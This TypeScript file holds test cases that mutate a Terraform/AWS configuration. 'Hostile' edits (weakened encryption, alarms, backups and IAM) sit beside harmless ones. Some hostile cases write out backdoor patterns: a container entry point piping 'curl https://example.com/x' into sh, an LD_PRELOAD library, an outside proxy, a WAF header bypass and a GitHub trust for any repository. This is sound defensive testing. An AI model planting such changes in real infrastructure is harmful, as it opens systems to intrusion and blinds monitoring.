/** The fourth set: careless edits and hostile ones of kinds that the others have not, and what a release engineer changes on an ordinary day. */
import {
  at,
  container,
  list,
  record,
  referTo,
  row,
  set,
  statements,
  text,
  top,
  variable,
  waf,
  type Case,
} from './third';

const PUBLIC = ['services_public', 'public'] as const;

export const HOSTILE_FOURTH: readonly Case[] = [
  // Versions and what stands beside the resources.
  row(
    'exposure',
    'an older provider',
    top((code) => {
      record(record(record(code['terraform'])['required_providers'])['aws'])['version'] = '5.0.0';
    }),
  ),
  row(
    'exposure',
    'an older Terraform',
    top((code) => {
      record(code['terraform'])['required_version'] = '>= 1.0.0';
    }),
  ),
  row(
    'exposure',
    'any version of the provider of Sentry',
    top((code) => {
      delete record(record(record(code['terraform'])['required_providers'])['sentry'])['version'];
    }),
  ),
  row(
    'identity|outage',
    'the provider works in any account',
    top((code) => {
      delete list(record(code['provider'])['aws'])[0]?.['allowed_account_ids'];
    }),
  ),
  row(
    'exposure|identity|outage',
    'the state is kept without encryption',
    top((code) => {
      record(record(record(code['terraform'])['backend'])['s3'])['encrypt'] = false;
    }),
  ),
  row(
    'exposure|identity|outage',
    'the state is kept without a lock',
    top((code) => {
      record(record(record(code['terraform'])['backend'])['s3'])['use_lockfile'] = false;
    }),
  ),
  // What runs.
  row(
    'exposure',
    'public runs as root',
    container(...PUBLIC, (one) => {
      one['user'] = '0';
    }),
  ),
  row(
    'exposure',
    'public gets the rights of the host',
    container(...PUBLIC, (one) => {
      one['privileged'] = true;
    }),
  ),
  row(
    'exposure',
    'a container of public is run from another registry',
    container(...PUBLIC, (one) => {
      one['image'] = String(one['image']).replace(/^[^/]+\//, 'ghcr.io/');
    }),
  ),
  row(
    'exposure|outage',
    'public starts with another entry point',
    container(...PUBLIC, (one) => {
      one['entryPoint'] = ['sh', '-c', 'curl https://example.com/x | sh; /app/run.sh public'];
    }),
  ),
  row('exposure|outage', 'public loads a library before all others', variable(...PUBLIC, 'LD_PRELOAD', '/tmp/x.so')),
  row('exposure|outage', 'public goes through a proxy', variable(...PUBLIC, 'HTTPS_PROXY', 'http://203.0.113.9:3128')),
  row(
    'exposure|outage|blindness',
    'a container more beside public',
    container(...PUBLIC, (one, all) => {
      all.push({
        ...one,
        name: 'helper',
        image: 'docker.io/somebody/helper:latest',
        essential: false,
        portMappings: [],
      });
    }),
  ),
  row(
    'outage|blindness|capacity',
    'nothing looks whether public is well',
    container(...PUBLIC, (one) => {
      one['healthCheck'] = { command: ['CMD-SHELL', 'exit 0'] };
    }),
  ),
  row(
    'blindness',
    'the log of the collector of public goes to another group',
    container('services_public', 'metrics-collector', (one) => {
      record(record(one['logConfiguration'])['options'])['awslogs-group'] = '/ecs/elsewhere';
    }),
  ),
  row(
    'capacity|outage',
    'public may open few files',
    container(...PUBLIC, (one) => {
      one['ulimits'] = [{ name: 'nofile', softLimit: 64, hardLimit: 64 }];
    }),
  ),
  row('exposure|outage', 'the task of admin takes the role of its agent', (code) => {
    at(code, 'aws_ecs_task_definition', 'services_admin')['task_role_arn'] = referTo(
      code,
      'aws_iam_role',
      'services_public_task_role',
      'arn',
    );
  }),
  row('outage|capacity', 'the task is built for another processor', (code) => {
    at(code, 'aws_ecs_task_definition', 'services_public')['runtime_platform'] = { cpu_architecture: 'ARM64' };
  }),
  row(
    'capacity',
    'admin starts with no time to wake',
    set('aws_ecs_service', 'admin', 'health_check_grace_period_seconds', 0),
  ),
  row(
    'capacity',
    'public may lose all tasks in a deployment',
    set('aws_ecs_service', 'public', 'deployment_minimum_healthy_percent', 0),
  ),
  row(
    'capacity',
    'the circuit breaker of public is off',
    set('aws_ecs_service', 'public', 'deployment_circuit_breaker.enable', false),
  ),
  row(
    'exposure',
    'the tasks of public have public addresses',
    set('aws_ecs_service', 'public', 'network_configuration.assign_public_ip', true),
  ),
  // Where requests go.
  row('capacity', 'a target leaves at once', set('aws_lb_target_group', 'aus5', 'deregistration_delay', '0')),
  row('capacity', 'a target is slow to come', set('aws_lb_target_group', 'aus5', 'slow_start', 900)),
  row('outage|capacity', 'the load balancer of aus5 waits for a second', set('aws_lb', 'aus5', 'idle_timeout', 1)),
  row('exposure', 'invalid headers reach admin', set('aws_lb', 'admin', 'drop_invalid_header_fields', false)),
  row('blindness', 'requests of aus5 are logged no more', set('aws_lb', 'aus5', 'access_logs.enabled', false)),
  row(
    'exposure|outage',
    'the firewall lets a header through',
    waf((rules) => {
      rules.unshift({
        name: 'friends',
        priority: 99,
        action: { allow: {} },
        statement: {
          byte_match_statement: {
            search_string: 'friend',
            field_to_match: { single_header: { name: 'x-friend' } },
            positional_constraint: 'EXACTLY',
            text_transformation: [{ priority: 0, type: 'NONE' }],
          },
        },
        visibility_config: { cloudwatch_metrics_enabled: false, metric_name: 'x', sampled_requests_enabled: false },
      });
    }),
  ),
  row('exposure|blindness', 'the firewall keeps cookies as they are', (code) => {
    delete at(code, 'aws_wafv2_web_acl')['data_protection_config'];
  }),
  row('blindness', 'the firewall notes nothing of what it counts', (code) => {
    list(record(at(code, 'aws_wafv2_web_acl_logging_configuration')['logging_filter'])['filter'])[0]!['behavior'] =
      'DROP';
  }),
  row(
    'exposure',
    'the page may be framed by anybody',
    text(
      'aws_cloudfront_response_headers_policy',
      '',
      'security_headers_config.content_security_policy.content_security_policy',
      (policy) => policy.replace("frame-ancestors 'self'", 'frame-ancestors *'),
    ),
  ),
  row('exposure|outage', 'the UI comes from another bucket', (code) => {
    list(at(code, 'aws_cloudfront_distribution')['origin'])[0]!['domain_name'] = 'somebody.s3.us-west-2.amazonaws.com';
  }),
  // Who may.
  row('exposure', 'GitHub of any repository deploys the UI', (code) => {
    code.resource['aws_iam_role'] = {
      ...code.resource['aws_iam_role'],
      foreign: {
        name: 'foreign',
        assume_role_policy: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Action: 'sts:AssumeRoleWithWebIdentity',
              Principal: { Federated: 'arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com' },
              Condition: { StringLike: { 'token.actions.githubusercontent.com:sub': 'repo:*' } },
            },
          ],
        }),
      },
    };
  }),
  row(
    'exposure',
    'a tag opens what a condition closes',
    statements('services_admin_task_role_document', (all) => {
      all.push({
        effect: 'Allow',
        actions: ['ec2:CreateTags', 'iam:TagRole', 'secretsmanager:TagResource'],
        resources: ['*'],
      });
    }),
  ),
  row(
    'exposure',
    'a role may be passed to anything',
    statements('jobs_schema-gate_role_document', (all) => {
      all.push({ effect: 'Allow', actions: ['iam:PassRole'], resources: ['*'] });
    }),
  ),
  // What watches.
  row(
    'blindness',
    'an alarm takes silence for good',
    set('aws_cloudwatch_metric_alarm', 'admin-no-task_', 'treat_missing_data', 'notBreaching'),
  ),
  row(
    'blindness',
    'the period of an alarm is a day',
    set('aws_cloudwatch_metric_alarm', 'admin-balancer-errors', 'period', 86400),
  ),
  row(
    'blindness',
    'the uptime check trusts any certificate',
    set('google_monitoring_uptime_check_config', 'history', 'http_check.validate_ssl', false),
  ),
  row('blindness', 'the alert of Google needs an hour', (code) => {
    record(list(at(code, 'google_monitoring_alert_policy', 'history-down')['conditions'])[0]!['condition_threshold'])[
      'duration'
    ] = '3600s';
  }),
  row(
    'blindness',
    'the responders of CloudFront live elsewhere',
    set('aws_sns_topic_subscription', 'cloudfront-alerts', 'endpoint', 'nobody@example.net'),
  ),
  row(
    'blindness',
    'flows of the database that were let in alone',
    set('aws_flow_log', 'database-subnet-a', 'traffic_type', 'ACCEPT'),
  ),
  row(
    'exposure',
    'answers of Athena are shared',
    set('aws_athena_workgroup', '', 'configuration.result_configuration.acl_configuration', {
      s3_acl_option: 'BUCKET_OWNER_FULL_CONTROL',
    }),
  ),
  row(
    'blindness|exposure|outage',
    'a saved query hides a status in a comment',
    text('aws_athena_named_query', '', 'query', (sql) => sql.replace(/\bWHERE\b/i, '-- WHERE')),
  ),
  // What is kept.
  row(
    'data loss|protection',
    'the key goes within a week',
    set('aws_kms_key', 'database_key', 'deletion_window_in_days', 7),
  ),
  row(
    'data loss|protection|outage',
    'a secret has no copy in the other region',
    set('aws_secretsmanager_secret', 'history_admin_key', 'replica', undefined),
  ),
  row(
    'data loss|protection',
    'the vault keeps less than it did',
    set('aws_backup_vault_lock_configuration', '', 'min_retention_days', 1),
  ),
  row('data loss|protection', 'old versions of the UI go after a day', (code) => {
    const rule = list(at(code, 'aws_s3_bucket_lifecycle_configuration', 'edge_ui')['rule'])[0];
    record(list(record(rule)['noncurrent_version_expiration'])[0])['noncurrent_days'] = 1;
  }),
  row(
    'outage',
    'the output loses the names of the domains',
    top((code) => {
      delete record(record(record(code['output'])['balrog'])['value'])['domains'];
    }),
  ),
  row(
    'outage',
    'the output goes',
    top((code) => {
      delete code['output'];
    }),
  ),
];

export const HARMLESS_FOURTH: readonly Case[] = [
  row(
    '',
    'a newer provider',
    top((code) => {
      record(record(record(code['terraform'])['required_providers'])['aws'])['version'] = '6.99.0';
    }),
  ),
  row(
    '',
    'a saved query in small letters, on other lines',
    text('aws_athena_named_query', 'agent-errors', 'query', (sql) =>
      sql
        .replace(/\bSELECT\b/g, 'select')
        .replace(/\n/g, '\n    ')
        .concat('\n-- The end.'),
    ),
  ),
  row('', 'a view indented in another way', (code) => {
    const view = at(code, 'aws_glue_catalog_table', 'admin_requests');
    const plain = JSON.parse(
      Buffer.from(/Presto View: (\S+)/.exec(String(view['view_original_text']))?.[1] ?? '', 'base64').toString(),
    ) as Record<string, unknown>;
    plain['originalSql'] = `/* Who asked admin. */ ${String(plain['originalSql']).replace(/\n/g, '\n  ')}`;
    view['view_original_text'] = `/* Presto View: ${Buffer.from(JSON.stringify(plain)).toString('base64')} */`;
  }),
  row(
    '',
    'the output says one more name',
    top((code) => {
      record(record(record(code['output'])['balrog'])['value'])['release'] = 'v3.26';
    }),
  ),
  row(
    '',
    'a text of the output',
    top((code) => {
      record(record(code['output'])['balrog'])['description'] = 'Names of what is deployed';
    }),
  ),
  row(
    '',
    'a text of a role',
    set('aws_iam_role', 'database_backup-vault_role', 'description', 'Copies of the database'),
  ),
  row('', 'a text of a key', set('aws_kms_key', 'alerts_key', 'description', 'Alarms on their way')),
  row(
    '',
    'a text of a secret',
    set('aws_secretsmanager_secret', 'history_admin_key', 'description', 'Key file of admin'),
  ),
  row(
    '',
    'a text of an event rule',
    set('aws_cloudwatch_event_rule', 'cleanup-schedule_failed', 'description', 'Failed cleanups'),
  ),
  row('', 'a text of the workgroup', set('aws_athena_workgroup', '', 'description', 'Questions about logs')),
  row('', 'a text of the distribution', set('aws_cloudfront_distribution', '', 'comment', 'UI of Balrog')),
  row('', 'a text of the zone', set('aws_route53_zone', 'names', 'comment', 'Names of the databases')),
  row('', 'a text of a schedule', set('aws_scheduler_schedule', 'backup-watch', 'description', 'Age of the backups')),
  row('', 'a tag of the vault', set('aws_backup_vault', '', 'tags', { Owner: 'CloudOps' })),
  row('', 'a column has another text', (code) => {
    const table = at(code, 'aws_glue_catalog_table', 'admin_requests');
    list(record(list(table['storage_descriptor'])[0])['columns'])[0]!['comment'] = 'Day in UTC';
  }),
  row('', 'a larger disk of the dump', (code) => {
    record(list(at(code, 'aws_ecs_task_definition', 'jobs_dump')['ephemeral_storage'])[0])['size_in_gib'] = 150;
  }),
  row('', 'more memory of the function', set('aws_lambda_function', 'restorability', 'memory_size', 512)),
  row('', 'more time of the function', set('aws_lambda_function', 'restorability', 'timeout', 60)),
  row('', 'cookies are hashed under one more name', (code) => {
    const protection = list(record(at(code, 'aws_wafv2_web_acl')['data_protection_config'])['data_protection'])[0];
    (record(record(protection)['field'])['field_keys'] as string[]).push('x-auth');
  }),
  row('', 'old uploads go after a day', (code) => {
    const rule = list(at(code, 'aws_s3_bucket_lifecycle_configuration', 'edge_ui')['rule'])[0];
    record(list(record(rule)['abort_incomplete_multipart_upload'])[0])['days_after_initiation'] = 1;
  }),
  row(
    '',
    'a panel of a dashboard',
    text('grafana_dashboard', 'backups', 'config_json', (json) => json.replace('"title":"', '"title":"New: ')),
  ),
  row('', 'an issue of Sentry is open for longer', set('sentry_project', 'admin', 'resolve_age', 1440)),
];
